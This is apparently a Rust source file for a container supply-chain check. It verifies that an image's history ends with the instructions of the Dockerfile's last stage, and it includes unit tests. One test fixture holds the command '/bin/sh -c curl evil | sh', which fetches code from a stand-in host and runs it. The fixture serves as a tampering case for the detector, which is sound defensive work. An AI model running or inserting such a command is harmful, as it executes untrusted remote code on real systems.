//! `image-history`: the image's history follows the Dockerfile's instructions.

use super::image_evidence::{image_of, steps};
use super::outcome::Outcome;
use super::{Check, Run};
use crate::evidence::{Evidence, NoInstructions};
use crate::finding::{Group, Level, MissingEvidence, Reason};
use crate::image::History;
use crate::policy::Policy;

pub(super) static CHECK: Check = Check {
    name: "image-history",
    group: Group::Image,
    level: Level::Warn,
    says: "the image's history ends with the instructions of the Dockerfile's last stage",
    explanation: "Compares the last entries of the history in the image's configuration with the instructions of the last stage of the proved \
Dockerfile (expect.dockerfile, or Dockerfile at the top). Where the source proves no Dockerfile, it compares with the instructions that the \
builder printed into the signed log, and says that it did; BuildKit's log does not print them, and then there is no evidence. Keywords must agree \
one by one, and the commands of RUN word by word; what COPY, ADD and ENV write is another spelling and is not compared. The history is text that \
a builder wrote down: it proves nothing about the layers. Times in it are shown as facts and not judged.\n\nWhen it fails: the build may have \
used another Dockerfile of the repository; name it in expect.dockerfile.",
    missing_evidence: MissingEvidence::RejectsWithGroup,
    run: Run::Function(run),
};

fn run(evidence: &Evidence<'_>, policy: &Policy) -> Outcome {
    let image = match image_of(evidence) {
        Ok(image) => image,
        Err(outcome) => return outcome,
    };
    let Some(config) = &image.config else { return Outcome::unknown("the image's configuration cannot be read") };
    let not_proved = match evidence.dockerfile(policy.expect.dockerfile.as_deref()) {
        Ok(instructions) => {
            let texts: Vec<&str> = instructions.iter().map(|instruction| instruction.text.as_str()).collect();
            return compare(last_stage(&texts), &config.history, "the proved Dockerfile");
        }
        Err(NoInstructions::NoFile(fault) | NoInstructions::NotRead(fault)) => fault,
    };
    match evidence.log().map(steps) {
        Some(Ok(printed)) if !printed.is_empty() => compare(last_stage(&printed), &config.history, "the log")
            .detail(format!("compared with the log only, not with a proved Dockerfile: {not_proved}")),
        Some(Err(message)) => Outcome::unknown(message),
        _ => {
            Outcome::not_run(Reason::NoEvidence, "no Dockerfile is proved, and the log does not show its instructions")
                .detail(not_proved)
        }
    }
}

/// What follows the last FROM.
fn last_stage<'i, 't>(instructions: &'i [&'t str]) -> &'i [&'t str] {
    let last_from = instructions.iter().rposition(|instruction| keyword(instruction) == "FROM");
    instructions.get(last_from.map_or(0, |at| at + 1)..).unwrap_or_default()
}

fn compare(instructions: &[&str], history: &[History], witness: &str) -> Outcome {
    let Some(inherited) = history.len().checked_sub(instructions.len()) else {
        return Outcome::fail(format!("the image's history is shorter than the last stage of {witness}"))
            .sides(format!("at least {} entries", instructions.len()), format!("{} entries", history.len()));
    };
    for (at, (instruction, entry)) in instructions.iter().zip(history.iter().skip(inherited)).enumerate() {
        let (found_keyword, found) = read(&entry.created_by);
        let expected = keyword(instruction);
        let differs = expected != found_keyword || (expected == "RUN" && !same_command(instruction, &found));
        if differs {
            return Outcome::fail(format!("entry {} of the last stage of {witness} is another instruction", at + 1))
                .sides(*instruction, &entry.created_by);
        }
    }
    Outcome::pass(format!(
        "the history ends with the {} instructions of the last stage of {witness}",
        instructions.len()
    ))
    .detail(format!("{inherited} entries before them come from the base image and were not compared"))
}

fn keyword(instruction: &str) -> String {
    instruction.split_whitespace().next().unwrap_or_default().to_ascii_uppercase()
}

/// Keyword and text of an entry: `/bin/sh -c #(nop)  CMD ["x"]` and `/bin/sh -c make` (classic builder, with `|1 A=b ` before it where
/// build arguments are set), `RUN /bin/sh -c make # buildkit`.
fn read(created_by: &str) -> (String, String) {
    let text = created_by.trim_end().strip_suffix("# buildkit").unwrap_or(created_by);
    if let Some((_, rest)) = text.split_once("#(nop)") {
        return (keyword(rest), collapsed(rest));
    }
    let first = keyword(text);
    let is_instruction =
        !first.is_empty() && first.bytes().all(|byte| byte.is_ascii_uppercase()) && text.starts_with(&first);
    if is_instruction && first != "RUN" {
        return (first, collapsed(text));
    }
    ("RUN".into(), collapsed(text))
}

/// Is the entry's command the instruction's? A shell stands before it, and build arguments before that. The exec form (`RUN ["a"]`) is
/// spelled otherwise and only its words are looked for.
fn same_command(instruction: &str, found: &str) -> bool {
    let text = instruction.split_once(char::is_whitespace).map_or("", |(_, rest)| rest).trim();
    if text.starts_with('[') {
        let words = text.split(['"', '[', ']', ',']).map(str::trim).filter(|word| !word.is_empty());
        return words.into_iter().all(|word| found.contains(&collapsed(word)));
    }
    // Flags (`--mount=…`) are the builder's and not in the command.
    let command: Vec<&str> = text.split_whitespace().skip_while(|word| word.starts_with("--")).collect();
    let command = command.join(" ");
    found.strip_suffix(command.as_str()).is_some_and(|before| before.is_empty() || before.ends_with(' '))
}

fn collapsed(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(created_by: &str) -> History {
        History { created_by: created_by.into(), created: None, makes_layer: true }
    }

    #[test]
    fn the_spellings_of_both_builders_are_read() {
        for (instruction, entry) in [
            ("RUN make  all", "/bin/sh -c make all"),
            ("RUN make all", "|1 VERSION=2 /bin/sh -c make all"),
            ("run make all", "RUN /bin/sh -c make all # buildkit"),
            ("RUN --mount=type=cache,target=/x make all", "RUN /bin/sh -c make all # buildkit"),
            ("RUN [\"/bin/make\", \"all\"]", "/bin/make all"),
            ("CMD [\"x\"]", "/bin/sh -c #(nop)  CMD [\"x\"]"),
            ("CMD [\"x\"]", "CMD [\"x\"]"),
            ("COPY a b", "/bin/sh -c #(nop) COPY file:0123 in b"),
            ("COPY a b", "COPY a b # buildkit"),
        ] {
            let outcome = compare(&[instruction], &[self::entry("base"), self::entry(entry)], "x");
            assert_eq!(outcome.status, crate::finding::Status::Pass, "{instruction} {entry}: {outcome:?}");
        }
    }

    #[test]
    fn another_command_order_or_number_is_seen() {
        for (instructions, history) in [
            (&["RUN make"][..], &["/bin/sh -c make evil"][..]),
            (&["RUN make"], &["/bin/sh -c remake"]),
            (&["RUN make", "CMD x"], &["/bin/sh -c #(nop)  CMD x", "/bin/sh -c make"]),
            (&["RUN make", "RUN test"], &["/bin/sh -c make"]),
            (&["COPY a b"], &["/bin/sh -c curl evil | sh"]),
        ] {
            let history: Vec<History> = history.iter().map(|text| entry(text)).collect();
            assert_eq!(compare(instructions, &history, "x").status, crate::finding::Status::Fail, "{instructions:?}");
        }
    }
}
